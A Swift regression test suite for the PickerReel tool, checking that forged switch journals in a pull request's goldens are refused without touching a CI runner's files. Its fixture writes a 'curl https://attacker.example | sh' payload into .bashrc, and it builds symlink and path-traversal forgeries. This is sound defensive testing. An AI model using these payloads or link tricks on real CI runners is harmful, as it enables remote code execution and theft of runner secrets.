import Foundation
import TestSupport
import Testing

/// Issue 34, finding 1: a switch journal a pull request commits inside its goldens is input, never an instruction.
///
/// The attack: `s/.pickerreel-commit-1` with its `.pickerreel-manifest`, and `s/.pickerreel-old-1` a link to a
/// folder of the runner's. Finishing an "interrupted switch" moves only plain files of names PickerReel writes, between folders
/// of the tree opened without following a link; anything else is refused with one message naming the journal and
/// saying how to clean it up, exit 2, nothing moved, the runner's folder untouched. Reached three ways: the Action's
/// compare step with no PNG goldens yet (it prepares the goldens to accept with `compare ACCEPT OUTPUT --update`),
/// `compare --update`, and `render -o` into the committed folder.
@Suite("Forged switch journals")
struct ForgedJournalTests {
    /// The spec the pull request renders: `specs/s.json`, so its folder of goldens is `goldens/s`.
    static let spec =
        #"{"items": ["A", "B"], "selection": {"initial": "A", "sequence": [{"select": "B", "after": 0.1}], "tail": 0.1}, "output": {"fps": 10, "scale": 1}}"#

    /// A pull request's repository (`repo`: the spec and a goldens folder `goldens/s` holding no PNG), and a folder of
    /// the runner's (`runner-home`: a `.bashrc` and a picture) outside it.
    struct Repository {
        let root: URL
        let repository: URL
        let runner: URL
        var goldens: URL { repository.appendingPathComponent("goldens") }
        var folder: URL { goldens.appendingPathComponent("s") }
        var commit: URL { folder.appendingPathComponent(".pickerreel-commit-1") }
        var backup: URL { folder.appendingPathComponent(".pickerreel-old-1") }

        init() throws {
            root = try temporaryFolder()
            repository = root.appendingPathComponent("repo")
            runner = root.appendingPathComponent("runner-home")
            for folder in [repository.appendingPathComponent("specs"), runner, repository.appendingPathComponent("goldens/s")] {
                try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
            }
            try Data(ForgedJournalTests.spec.utf8).write(to: repository.appendingPathComponent("specs/s.json"))
            try Data("the runner's own shell set-up\n".utf8).write(to: runner.appendingPathComponent(".bashrc"))
            try Data("the runner's picture".utf8).write(to: runner.appendingPathComponent("frame-0000.png"))
            try Data("the runner's secret".utf8).write(to: runner.appendingPathComponent("secret.png"))
        }

        /// Writes `text` at `relative` inside `folder`, making the folders it needs.
        func write(_ text: String, _ relative: String, in folder: URL) throws {
            let url = folder.appendingPathComponent(relative)
            try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
            try Data(text.utf8).write(to: url)
        }

        /// Makes `url` a symbolic link to `target`.
        func link(_ url: URL, to target: URL) throws {
            try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
            try FileManager.default.createSymbolicLink(atPath: url.path, withDestinationPath: target.path)
        }

        /// The journal `s/.pickerreel-commit-1/.pickerreel-manifest`.
        func journal(_ text: String) throws {
            try write(text, ".pickerreel-manifest", in: commit)
        }

        /// The issue's attack: the journal names `.bashrc`, which the commit folder and the goldens folder hold, and
        /// the backup folder is a link to the runner's folder, so that moving the old `.bashrc` aside replaces the
        /// runner's.
        func forgeTheBashrcAttack() throws {
            try journal(#"{"write":[".bashrc"],"remove":[]}"#)
            try write("curl https://attacker.example | sh\n", ".bashrc", in: commit)
            try write("curl https://attacker.example | sh\n", ".bashrc", in: folder)
            try link(backup, to: runner)
        }

        /// Runs scripts/pickerreel-ci.sh in the repository as action.yml's compare step runs it (update: false),
        /// with the folder of the goldens to accept in the runner's temporary folder.
        func runCompareStep() throws -> ProcessRun {
            try runProgram(
                "bash",
                [
                    repositoryRoot.appendingPathComponent("scripts/pickerreel-ci.sh").path, try toolURL().path, "specs/*.json",
                    "goldens", "Output/pickerreel", "Output/pickerreel-report", "png",
                ], in: repository,
                environment: [
                    "PICKERREEL_ACCEPT": root.appendingPathComponent("runner-temp/pickerreel-accept/pictures").path,
                    "PICKERREEL_ACCEPT_ARTIFACT": "pictures-goldens",
                ], unsetting: ["GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"])
        }

        /// `compare goldens ACTUAL --update` in the repository, ACTUAL a fresh render of the spec.
        func runCompareUpdate() throws -> ProcessRun {
            let actual = root.appendingPathComponent("actual")
            let render = try runTool(["render", "specs/s.json", "-o", actual.path, "-q"], in: repository)
            try #require(render.status == 0, "\(render)")
            return try runTool(["compare", "goldens", actual.path, "--update"], in: repository)
        }

        /// `render specs/s.json -o goldens` in the repository: into the committed folder `goldens/s`.
        func runRender() throws -> ProcessRun {
            try runTool(["render", "specs/s.json", "-o", "goldens", "-q"], in: repository)
        }
    }

    /// Every entry under `folder` (itself not followed if a link), links as their targets and regular files as their
    /// bytes, without following a link or opening anything else (a FIFO would block a read).
    static func listing(of folder: URL) throws -> [String: String] {
        var entries: [String: String] = [:]
        func walk(_ url: URL, _ relative: String) throws {
            var status = stat()
            guard lstat(url.path, &status) == 0 else { return }
            switch status.st_mode & S_IFMT {
            case S_IFLNK: entries[relative] = "link to " + (try FileManager.default.destinationOfSymbolicLink(atPath: url.path))
            case S_IFREG: entries[relative] = String(decoding: try Data(contentsOf: url), as: UTF8.self)
            case S_IFDIR:
                entries[relative + "/"] = "folder"
                for name in try FileManager.default.contentsOfDirectory(atPath: url.path) {
                    try walk(url.appendingPathComponent(name), relative.isEmpty ? name : relative + "/" + name)
                }
            default: entries[relative] = "mode \(status.st_mode & S_IFMT)"
            }
        }
        try walk(folder, "")
        return entries
    }

    /// The message every refusal gives: it names the journal and says to remove it and its backup folder.
    static func expectRefusal(
        _ run: ProcessRun, of world: Repository, saying words: String, sourceLocation: SourceLocation = #_sourceLocation
    ) {
        #expect(run.status == 2, "\(run)", sourceLocation: sourceLocation)
        #expect(!run.trapped, "\(run)", sourceLocation: sourceLocation)
        #expect(run.stderr.contains(words), "\(run)", sourceLocation: sourceLocation)
        #expect(run.stderr.contains("this journal was not made by an interrupted render"), "\(run)", sourceLocation: sourceLocation)
        #expect(run.stderr.contains("remove " + world.commit.path + " and " + world.backup.path), "\(run)", sourceLocation: sourceLocation)
    }

    /// The Action's ordinary compare step, with no PNG among the goldens yet (a fork's pull request is enough): it
    /// copies the goldens to accept (the forged journal and link with them) and finishes the forged switch there.
    @Test func theActionsCompareStepDoesNotFinishAForgedSwitch() throws {
        let world = try Repository()
        try world.forgeTheBashrcAttack()
        let runner = try Self.listing(of: world.runner)
        let goldens = try Self.listing(of: world.goldens)
        let run = try world.runCompareStep()
        #expect(try Self.listing(of: world.runner) == runner, "the runner's .bashrc was replaced: \(run.stdout)\(run.stderr)")
        #expect(try Self.listing(of: world.goldens) == goldens)
        #expect(run.status == 1, "no goldens yet: \(run.stdout)\(run.stderr)")
        #expect(run.stdout.contains("could not prepare the accepted goldens for download"), "\(run.stdout)")
        #expect(run.stderr.contains("names .bashrc, which is not a file PickerReel writes"), "\(run.stderr)")
    }

    /// `compare --update`, which a plain compare of a folder holding a journal tells the user to run.
    @Test func compareUpdateRefusesAForgedSwitch() throws {
        let world = try Repository()
        try world.forgeTheBashrcAttack()
        let runner = try Self.listing(of: world.runner)
        let goldens = try Self.listing(of: world.goldens)
        let run = try world.runCompareUpdate()
        #expect(try Self.listing(of: world.runner) == runner, "the runner's .bashrc was replaced: \(run)")
        #expect(try Self.listing(of: world.goldens) == goldens, "nothing is moved")
        Self.expectRefusal(run, of: world, saying: "names .bashrc, which is not a file PickerReel writes")
    }

    /// `render -o goldens`, into the committed folder: its first step finishes the switch left there.
    @Test func renderIntoTheCommittedFolderRefusesAForgedSwitch() throws {
        let world = try Repository()
        try world.forgeTheBashrcAttack()
        let runner = try Self.listing(of: world.runner)
        let goldens = try Self.listing(of: world.goldens)
        let run = try world.runRender()
        #expect(try Self.listing(of: world.runner) == runner, "the runner's .bashrc was replaced: \(run)")
        #expect(try Self.listing(of: world.goldens) == goldens, "nothing is moved")
        Self.expectRefusal(run, of: world, saying: "names .bashrc, which is not a file PickerReel writes")
    }

    /// A plain compare of goldens holding a forged journal says what `--update` would say (not the tool's journal:
    /// remove it), where it had told the user to run `--update`, which then refused.
    @Test func aPlainCompareNamesAForgedJournalAsNotTheTools() throws {
        let world = try Repository()
        try world.forgeTheBashrcAttack()
        let actual = world.root.appendingPathComponent("actual")
        let render = try runTool(["render", "specs/s.json", "-o", actual.path, "-q"], in: world.repository)
        try #require(render.status == 0, "\(render)")
        let runner = try Self.listing(of: world.runner)
        let goldens = try Self.listing(of: world.goldens)
        let run = try runTool(["compare", world.goldens.path, actual.path], in: world.repository)
        #expect(try Self.listing(of: world.runner) == runner)
        #expect(try Self.listing(of: world.goldens) == goldens)
        Self.expectRefusal(run, of: world, saying: "names .bashrc, which is not a file PickerReel writes")
        #expect(!run.stderr.contains("--update"), "\(run)")
    }

    /// A forged journal the tool must refuse, and the words its message holds.
    struct Forgery: CustomTestStringConvertible, Sendable {
        var name: String
        var words: String
        var forge: @Sendable (Repository) throws -> Void
        var testDescription: String { name }
    }

    static let forgeries: [Forgery] = [
        Forgery(name: "a picture moved aside into a linked backup folder", words: ".pickerreel-old-1 is a link") { world in
            try world.journal(#"{"write":["frame-0000.png"],"remove":[]}"#)
            try world.write("the pull request's", "frame-0000.png", in: world.commit)
            try world.write("the pull request's", "frame-0000.png", in: world.folder)
            try world.link(world.backup, to: world.runner)
        },
        Forgery(name: "a removal into a linked backup folder", words: ".pickerreel-old-1 is a link") { world in
            try world.journal(#"{"write":[],"remove":["frame-0000.png"]}"#)
            try world.write("the pull request's", "frame-0000.png", in: world.folder)
            try world.link(world.backup, to: world.runner)
        },
        Forgery(name: "a commit folder that is a link", words: "is a link") { world in
            // The runner's folder would give its secret to the goldens (and the uploaded artifact).
            try world.write(#"{"write":["secret.png"],"remove":[]}"#, ".pickerreel-manifest", in: world.runner)
            try world.link(world.commit, to: world.runner)
        },
        Forgery(name: "a name climbing through a linked folder of the destination", words: "sub is a link") { world in
            try world.journal(#"{"write":["sub/frame-0000.png"],"remove":[]}"#)
            try world.write("the pull request's", "sub/frame-0000.png", in: world.commit)
            try world.link(world.folder.appendingPathComponent("sub"), to: world.runner)
        },
        Forgery(name: "a name climbing through a linked folder of the commit folder", words: "sub is a link") { world in
            try world.journal(#"{"write":["sub/secret.png"],"remove":[]}"#)
            try world.link(world.commit.appendingPathComponent("sub"), to: world.runner)
        },
        Forgery(name: "a file that is a link to the runner's", words: "secret.png is a link, not a plain file") { world in
            try world.journal(#"{"write":["secret.png"],"remove":[]}"#)
            try world.link(world.commit.appendingPathComponent("secret.png"), to: world.runner.appendingPathComponent("secret.png"))
        },
        Forgery(name: "a folder named as a picture", words: "d.png is a folder, not a plain file") { world in
            try world.journal(#"{"write":["d.png"],"remove":[]}"#)
            try world.write("inside", "d.png/x.png", in: world.commit)
        },
        Forgery(name: "a FIFO named as a picture", words: "f.png is a FIFO, not a plain file") { world in
            try world.journal(#"{"write":["f.png"],"remove":[]}"#)
            try #require(mkfifo(world.commit.appendingPathComponent("f.png").path, 0o644) == 0)
        },
        Forgery(name: "a device's path", words: "names /dev/null, which is not a file PickerReel writes") { world in
            try world.journal(#"{"write":["/dev/null"],"remove":[]}"#)
        },
        Forgery(name: "a path climbing out", words: "names ../../../runner-home/frame-0000.png, which is not a file") { world in
            try world.journal(#"{"write":[],"remove":["../../../runner-home/frame-0000.png"]}"#)
        },
        Forgery(name: "a journal larger than any the tool writes", words: "more than the 8388608 a journal") { world in
            try world.journal(String(repeating: " ", count: 9 << 20) + #"{"write":[],"remove":[]}"#)
        },
        Forgery(name: "a deeply nested journal", words: "is not a journal PickerReel writes") { world in
            try world.journal(String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000))
        },
        Forgery(name: "a journal with no manifest", words: "is not a journal PickerReel writes") { world in
            try world.write("the pull request's", "frame-0000.png", in: world.commit)
        },
        Forgery(name: "a backup folder that is a file", words: ".pickerreel-old-1 is not a folder") { world in
            try world.journal(#"{"write":["frame-0000.png"],"remove":[]}"#)
            try world.write("the pull request's", "frame-0000.png", in: world.commit)
            try world.write("the pull request's", "frame-0000.png", in: world.folder)
            try world.write("a file", ".pickerreel-old-1", in: world.folder)
        },
    ]

    /// Each forgery through `render -o` and `compare --update`: refused with its message, nothing moved, the runner's
    /// folder untouched.
    @Test(arguments: forgeries, ["render", "update"])
    func aForgedJournalIsRefused(_ forgery: Forgery, way: String) throws {
        let world = try Repository()
        try forgery.forge(world)
        let runner = try Self.listing(of: world.runner)
        let goldens = try Self.listing(of: world.goldens)
        let run = way == "render" ? try world.runRender() : try world.runCompareUpdate()
        #expect(try Self.listing(of: world.runner) == runner, "the runner's folder changed: \(run)")
        #expect(try Self.listing(of: world.goldens) == goldens, "nothing is moved")
        Self.expectRefusal(run, of: world, saying: forgery.words)
    }

    /// The tool's own leftovers committed as links (a staging or backup folder with no journal, a staging folder of
    /// a killed render beside the destination, or a link inside one) are removed, if at all, as links: nothing they
    /// point to is followed or removed.
    @Test(arguments: ["render", "update"])
    func committedLeftoversThatAreLinksAreNotFollowed(way: String) throws {
        let world = try Repository()
        try world.link(world.folder.appendingPathComponent(".pickerreel-new-1-1"), to: world.runner)
        try world.link(world.folder.appendingPathComponent(".pickerreel-old-7"), to: world.runner)
        // A staging folder beside the destination, of a process that is gone: a link, and a folder holding a link.
        try world.link(world.goldens.appendingPathComponent(".s.pickerreel-4194000-1"), to: world.runner)
        try world.link(world.goldens.appendingPathComponent(".s.pickerreel-4194001-1/inner"), to: world.runner)
        let runner = try Self.listing(of: world.runner)
        let run = way == "render" ? try world.runRender() : try world.runCompareUpdate()
        #expect(run.status == 0, "\(run)")
        #expect(try Self.listing(of: world.runner) == runner, "the runner's folder changed: \(run)")
        #expect(FileManager.default.fileExists(atPath: world.folder.appendingPathComponent("frame-0000.png").path))
    }
}
